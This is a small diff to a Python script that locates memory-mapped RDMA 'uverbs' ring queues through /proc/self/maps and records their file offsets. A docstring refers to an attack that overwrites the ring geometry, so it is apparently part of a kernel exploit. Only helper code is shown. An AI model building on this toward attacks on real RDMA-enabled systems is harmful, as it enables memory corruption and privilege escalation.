@@ -11,10 +11,10 @@ LIBC.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [
 
 
 class Ring:
-    """A mapped queue. Its geometry is read before the attack overwrites it."""
+    """A mapped queue; `offset`: where mmap finds it in the device file. Its geometry is read before the attack overwrites it."""
 
-    def __init__(self, address, size):
-        self.address, self.size = address, size
+    def __init__(self, address, size, offset):
+        self.address, self.size, self.offset = address, size, offset
         self.log2, self.mask = struct.unpack("=II", ctypes.string_at(address, 8))
         self.next = 0
 
@@ -32,6 +32,7 @@ def mapped():
     with open("/proc/self/maps") as maps:
         for line in maps:
             if "uverbs" in line:
-                start, end = (int(word, 16) for word in line.split()[0].split("-"))
-                found.append(Ring(start, end - start))
+                addresses, _, offset = line.split()[:3]
+                start, end = (int(word, 16) for word in addresses.split("-"))
+                found.append(Ring(start, end - start, int(offset, 16)))
     return found
